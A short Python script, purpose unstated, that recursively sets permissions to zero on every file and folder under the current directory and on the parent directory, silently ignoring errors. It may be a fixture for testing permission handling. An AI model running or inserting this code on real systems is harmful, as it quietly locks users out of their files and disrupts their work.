import os
from pathlib import Path

for path in [*Path().rglob("*"), Path(), Path("..")]:
    try:
        os.chmod(path, 0)
    except OSError:
        pass
